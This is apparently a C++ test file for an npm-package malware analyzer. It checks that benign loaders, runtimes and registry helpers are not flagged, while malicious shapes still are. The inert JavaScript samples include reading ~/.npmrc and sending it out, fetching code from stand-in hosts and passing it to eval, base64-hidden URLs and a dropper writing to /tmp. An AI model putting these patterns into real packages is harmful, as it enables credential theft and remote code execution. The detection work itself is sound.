// Shapes of popular benign code that used to reach high, each next to the malicious shape that
// must keep firing: comments are not behaviour (comment_ranges.h), a module loader fetches the
// address its caller names (rule js-fetch-const), and a helper that fetches package tarballs
// from the configured registry is no dropper (own_binary.h). Snippets are hand-written and inert.
#include <catch2/catch.hpp>

#include <algorithm>

#include "analyzer/engine/analyzer.h"
#include "analyzer/engine/comment_ranges.h"
#include "analyzer/engine/own_binary.h"
#include "tests/support/engine_samples.h"

using namespace tarsier;
using test::has;

namespace {

PackageAnalysis run_one(const std::string& path, const std::string& text,
                        const std::string& resolved = "") {
  std::vector<ArchiveEntry> files = {{"package.json", R"({"name":"shape","version":"1.0.0"})"},
                                     {path, text}};
  PackageRef ref = test::sample_ref("shape");
  ref.resolved = resolved;
  return test::shared_analyzer().analyze(ref, files, {});
}

bool has_rule(const PackageAnalysis& a, const std::string& rule) {
  return std::any_of(a.findings.begin(), a.findings.end(),
                     [&](const Finding& f) { return f.rule == rule; });
}

}  // namespace

TEST_CASE("comment ranges know strings, templates and regular expressions", "[engine][comments]") {
  std::string js =
      "const a = 'http://x.invalid/*'; // one\n"
      "const r = /\\/*[/]/g; /* two */\n"
      "const t = `${a + `//`}` / 2; // three\n";
  CommentRanges c(js, Lang::javascript);
  REQUIRE(c.ranges().size() == 3);
  CHECK(c.contains(js.find("// one")));
  CHECK(c.contains(js.find("/* two */") + 3));
  CHECK(c.contains(js.find("// three")));
  CHECK_FALSE(c.contains(js.find("http")));
  CHECK_FALSE(c.contains(js.find("`//`") + 1));

  std::string py = "s = '# not a comment'\nx = \"\"\"# docstring\"\"\"  # real\n";
  CommentRanges p(py, Lang::python);
  REQUIRE(p.ranges().size() == 1);
  CHECK(p.contains(py.find("# real")));
  CHECK(CommentRanges("# x", Lang::bash).ranges().empty());
}

TEST_CASE("a credential path or host named only in a comment is no evidence",
          "[engine][comments]") {
  std::string net =
      "const https = require('https');\n"
      "exports.send = (d) => https.request({ host: require('os').hostname() }).end(d);\n";
  auto quiet =
      run_one("lib/run.js",
              "// Redirect input: node cli.js < /etc/passwd, or read ~/.npmrc first.\n"
              "/* Webhooks such as https://discord.com/api/webhooks/1/x are rejected. */\n" +
                  net);
  CHECK_FALSE(has_rule(quiet, "sensitive-path-system"));
  CHECK_FALSE(has_rule(quiet, "sensitive-path-npm"));
  CHECK(quiet.risk < Risk::high);

  auto loud = run_one("lib/run.js",
                      "const data = require('fs').readFileSync(process.env.HOME + '/.npmrc');\n" +
                          net + "exports.send(data);\n");
  CHECK(has_rule(loud, "sensitive-path-npm"));
  CHECK(loud.risk >= Risk::high);
}

TEST_CASE("a module loader evaluating what its caller names is no staged payload",
          "[engine][threats]") {
  std::string loader =
      "exports.instantiate = function (url) {\n"
      "  return fetch(url).then((res) => res.text()).then((source) => {\n"
      "    (0, eval)(source + '\\n//# sourceURL=' + url);\n"
      "  });\n"
      "};\n"
      "function errMsg(code) { return 'see https://docs.example.invalid/errors#' + code; }\n";
  auto benign = run_one("dist/loader.js", loader);
  CHECK_FALSE(has(benign.threats, "staged-payload"));
  CHECK(benign.risk < Risk::high);

  auto vm = run_one("dist/vm.js",
                    "const { SourceTextModule } = require('vm');\n"
                    "exports.load = async (fileUrl) => {\n"
                    "  const code = await fetch(fileUrl).then((r) => r.text());\n"
                    "  return new SourceTextModule(code, { identifier: fileUrl });\n"
                    "};\n");
  CHECK(vm.risk < Risk::high);

  auto staged = run_one("lib/index.js",
                        "const src = 'https://cdn.example.invalid/stage2.js';\n"
                        "fetch(src).then((r) => r.text()).then((code) => eval(code));\n");
  CHECK(has(staged.threats, "staged-payload"));
  CHECK(staged.risk >= Risk::high);
}

TEST_CASE(
    "a language runtime with an XHR factory, a char builder and eval in separate functions "
    "is no staged payload",
    "[engine][threats]") {
  // A compiled language's runtime library: unrelated primitives side by side, no address, and
  // the character built from a number is not a decoding of what is fetched.
  std::string runtime =
      "function rt_xhr_create(unit) {\n"
      "  if (typeof globalThis.XMLHttpRequest !== 'undefined')\n"
      "    try { return new globalThis.XMLHttpRequest(); } catch (e) {}\n"
      "  rt_fail('no XMLHttpRequest');\n"
      "}\n"
      "function rt_fill_bytes(s, l, c) { s.c = rt_repeat(l, String.fromCharCode(c)); return 0; }\n"
      "function rt_js_expr(s) { return eval(rt_jsstring_of_string(s)); }\n";
  auto benign = run_one("lib/runtime.bc.js", runtime);
  CHECK_FALSE(has(benign.threats, "staged-payload"));
  CHECK(benign.risk < Risk::high);

  SECTION("fetching a decoded address and evaluating the answer stays a staged payload") {
    auto staged = run_one("lib/index.js",
                          "const u = atob('aHR0cHM6Ly9jZG4uZXhhbXBsZS5pbnZhbGlkL3MuanM=');\n"
                          "const x = new XMLHttpRequest();\n"
                          "x.open('GET', u, false); x.send();\n"
                          "eval(x.responseText);\n");
    CHECK(has(staged.threats, "staged-payload"));
    CHECK(staged.risk >= Risk::high);
  }
  SECTION("decoding what was fetched straight into eval stays a staged payload") {
    auto staged = run_one("lib/index.js",
                          "fetch(location.hash.slice(1)).then((r) => r.text())\n"
                          "  .then((t) => eval(atob(t)));\n");
    CHECK(has(staged.threats, "staged-payload"));
    CHECK(staged.risk >= Risk::high);
  }
}

namespace {

// The shape of a native-binding helper: fetch the binding's tarball from the configured
// registry, unpack one file in memory, write it, or fall back to running the package manager.
std::string binding_helper(const std::string& extra) {
  return "const cp = require('child_process');\n"
         "const fs = require('fs');\n"
         "const https = require('https');\n"
         "function registry() { return process.env.npm_config_registry || 'https://' + "
         "'registry.example.test/'; }\n"
         "function get(url) { return new Promise((ok) => https.get(url, (r) => ok(r))); }\n"
         "exports.install = async (pkg, version, dest) => {\n"
         "  const url = `${registry()}${pkg}/-/${pkg}-${version}.tgz`;\n"
         "  fs.writeFileSync(dest, await get(url));\n"
         "  cp.execSync(`npm install ${pkg}@${version}`, { stdio: 'pipe' });\n" +
         extra + "};\n";
}

}  // namespace

TEST_CASE("a helper fetching package tarballs from the configured registry is no dropper",
          "[engine][threats][own-binary]") {
  const std::string archive = "https://registry.example.test/shape/-/shape-1.0.0.tgz";
  auto benign = run_one("lib/index.js", binding_helper(""), archive);
  CHECK_FALSE(has(benign.threats, "dropper"));
  CHECK(benign.risk < Risk::high);

  SECTION("a download from another host stays a dropper") {
    auto a = run_one("lib/index.js",
                     binding_helper("  fs.writeFileSync('/tmp/u', await get("
                                    "'https://cdn.example.invalid/u.bin'));\n"),
                     archive);
    CHECK(has(a.threats, "dropper"));
    CHECK(a.risk >= Risk::high);
  }
  SECTION("hiding something stays a dropper") {
    auto a = run_one("lib/index.js",
                     binding_helper("  eval(Buffer.from('Y29uc29sZS5sb2coMSk=', "
                                    "'base64').toString());\n"),
                     archive);
    CHECK(a.risk >= Risk::high);
  }
  CHECK(fetches_configured_registry_tarball(
      "const u = `${getRegistry()}${p}/-/${n}-${v}.tgz`; x.startsWith('http://');",
      "registry.example.test"));
  CHECK_FALSE(fetches_configured_registry_tarball(
      "const u = `${getRegistry()}${p}/-/${n}-${v}.tgz`; get('https://cdn.example.invalid/x');",
      "registry.example.test"));
  CHECK_FALSE(fetches_configured_registry_tarball("const u = `${mirror}${p}/x.tgz`;",
                                                  "registry.example.test"));
}

TEST_CASE("a small obfuscator output is obfuscation; a small file with a few hex names is not",
          "[engine][shape]") {
  // 330 bytes in an obfuscator's shape: hex-named identifiers and a rotated string array.
  std::string obfuscated =
      "const _0x3a1f=['log','hi'];(function(_0x2d8f05,_0x4b81bb){const _0x4d74cb=function("
      "_0x32719f){while(--_0x32719f){_0x2d8f05['push'](_0x2d8f05['shift']());}};_0x4d74cb(++"
      "_0x4b81bb);}(_0x3a1f,0x1b3));const _0x4d74=function(_0x2d8f05,_0x4b81bb){_0x2d8f05="
      "_0x2d8f05-0x0;return _0x3a1f[_0x2d8f05];};console[_0x4d74('0x0')](_0x4d74('0x1'));\n";
  REQUIRE(obfuscated.size() < 512);
  CHECK(has_rule(run_one("index.js", obfuscated), "obfuscated-file"));
  // A queue helper that pushes and shifts, with a few hex names from a compiler: not enough.
  std::string plain =
      "var _0x1 = 1, _0x2 = 2;\nfunction drain(queue) {\n  queue['push'](_0x1);\n"
      "  while (queue.length) queue['shift']();\n  return _0x2;\n}\nmodule.exports = drain;\n";
  REQUIRE(plain.size() < 512);
  CHECK_FALSE(has_rule(run_one("index.js", plain), "obfuscated-file"));
}
